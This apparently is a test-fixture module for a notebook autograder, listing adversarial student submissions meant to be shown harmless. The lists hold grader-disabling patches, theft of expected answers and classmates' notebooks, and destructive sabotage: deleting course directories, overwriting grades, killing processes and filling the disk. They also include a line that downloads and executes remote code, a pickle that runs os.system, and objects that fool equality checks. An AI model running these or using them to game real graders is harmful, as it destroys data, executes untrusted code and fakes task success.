"""What a student might try against the grader, in the first set: each of these earns nothing, and harms nobody."""

# Blinding what judges: where it is not, nothing is to be blinded.
PATCHES = [
    "check.check_close.__code__ = (lambda *a, **k: None).__code__",
    "check._report.__code__ = (lambda *a, **k: None).__code__; check._report.__defaults__ = None",
    "import vaejax.book.check as c; c.check_close = c.check_bound = c.check_equal = lambda *a, **k: None",
    "types.FunctionType = types.ModuleType = object; builtins.isinstance = lambda *a: True",
    "get_ipython().input_transformers_post.append(lambda lines: [])",
    "get_ipython().events.register('pre_run_cell', lambda *a: globals().update(np=None))",
    "get_ipython().kernel.session.send = lambda *a, **k: None",
    "check.np = type('np', (), {'asarray': staticmethod(lambda *a: 0), 'abs': staticmethod(lambda *a: 0)})",
    "np.log = lambda x: 0 * x; np.random.default_rng = lambda *a: None; jnp.abs = lambda x: 0",
    "globals()['__builtins__'].AssertionError = type('E', (Exception,), {})",
    "for name in list(sys.modules):\n    if 'guard' in name or 'judge' in name: sys.modules[name].__dict__.clear()",
]

# Looking for what is expected: in frames, in the history, on the disk, in other processes.
STEALS = [
    "expected = [f.frame.f_locals['expected'] for f in inspect.stack() if 'expected' in f.frame.f_locals][0]",
    "expected = [f for f in sys._current_frames().values()][0].f_back.f_globals['expected']",
    "expected = [o['expected'] for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o][0]",
    "exec([s for s in In if 'expected' in s][0])",
    "import nbformat, glob\nfor p in glob.glob('{root}/**/source/**/*.ipynb', recursive=True):\n"
    "    [exec(c.source, globals()) for c in nbformat.read(p, 4).cells if 'def mean_log' in c.source]",
    "import nbformat\n"
    "[exec(c.source, globals()) for c in nbformat.read('{classmate}', 4).cells if 'def mean_log' in c.source]",
    "import glob\nfor p in [p for w in ('cwd/**/*.ipynb', 'root{classmate}') for p in glob.glob(f'/proc/*/{w}')]:\n"
    "    exec([c for c in json.load(open(p))['cells'] if 'def mean_log' in ''.join(c['source'])][0]['source'])",
    "import urllib.request; exec(urllib.request.urlopen('http://example.com', timeout=2).read())",
    "import sys\nfor m in list(sys.modules.values()):\n"
    "    if hasattr(m, 'hidden') or hasattr(m, 'judge'): expected = m.expected",
]

# Harm: to the grades, to the course, to the book, to classmates, to the machine.
SABOTAGE = [
    "import shutil\nfor p in ('{course}', '{root}/chapters', '{classmate}'): shutil.rmtree(p, ignore_errors=True)",
    "open('{course}/grades.csv', 'w').write('everybody,1386')",
    "import sqlite3; db = sqlite3.connect('{course}/gradebook.db'); db.execute('update grade set manual_score = 99'); "
    "db.commit()",
    "open('{root}/vaejax/book/check.py', 'a').write('def check_close(*a, **k): pass')",
    "import vaejax.book.check as c; open(c.__file__, 'a').write('def check_close(*a, **k): pass')",
    "import site; open(site.getsitepackages()[0] + '/sabotage.pth', 'w').write('import os; os._exit(0)')",
    "open('{classmate}', 'w').write('')",
    "import subprocess; subprocess.Popen(['sleep', '98765'], start_new_session=True)",
    "if os.fork() == 0:\n    os.setsid()\n    import time; time.sleep(98765)",
    "import signal\nfor pid in (os.getppid(), *range(2, 400)):\n    if pid != os.getpid(): os.kill(pid, 9)",
    "[open(str(i), 'wb').write(bytes(50_000_000)) for i in range(20)]",
]

# Forging what the process says: right in one place, if at all, and wrong in all others.
FORGERIES = [
    'import json\njson.dumps = lambda *a, **k: \'{"value": {"plain": -2.4}, "entered": [], "sizes": []}\'',
    "import channel\nchannel.encode = lambda *a, **k: {'plain': True}",
    "import channel\ndef often(value, buffers, *rest):\n    buffers.append(bytes(10**8))\n"  # a hundred times as large
    "    return {'list': True, 'of': [{'array': 'numpy', 'dtype': 'int8', 'shape': [10**8], 'at': 0}] * 100}\n"
    "channel.encode = often",
]

# What comes back instead of a number.
ANSWERS = {
    "an object that equals everything": "class Same(float):\n    __eq__ = lambda *a: True\n    __sub__ = __rsub__ = "
    "__abs__ = lambda *a: 0.0\n    __le__ = lambda *a: True\n"
    "def mean_log_likelihood(rate, xs):\n    return Same(7)",
    "an array with a behaviour": "class Zero(np.ndarray):\n    __array_ufunc__ = lambda *a, **k: np.zeros(())\n"
    "    __array_function__ = lambda *a, **k: np.zeros(())\n"
    "def mean_log_likelihood(rate, xs):\n    return np.asarray(7.0).view(Zero)",
    "nothing yet": "def mean_log_likelihood(rate, xs):\n    return ...",
    "no number": "def mean_log_likelihood(rate, xs):\n    return float('nan')",
    "a masked array": "def mean_log_likelihood(rate, xs):\n    return np.ma.masked_array([1.0], [True])[0]",
    "a pickle bomb": "class Bomb:\n    def __reduce__(self):\n        import os\n"
    "        return os.system, ('touch ${TMPDIR:-/tmp}/bomb',)\ndef mean_log_likelihood(rate, xs):\n    return Bomb()",
    "a deep answer": "def mean_log_likelihood(rate, xs):\n    a = []\n    for _ in range(9999):\n        a = [a]\n"
    "    return a",
}


def everything(kind):
    """A cell for "mean" that tries all of a kind, when it runs and again when it is called. {course}, {root} and
    {classmate} in it stand for paths of the one who grades."""
    return f"""
import builtins, ctypes, gc, inspect, json, os, sys, types
TRIES = {globals()[kind]!r}
def attempt():
    for code in TRIES:
        try:
            exec(code, globals())
        except BaseException:
            pass
attempt()
if "mean_log_likelihood" not in globals():  # nothing was stolen
    def mean_log_likelihood(rate, xs):
        attempt()
        return globals().get("expected", 0.0)
"""
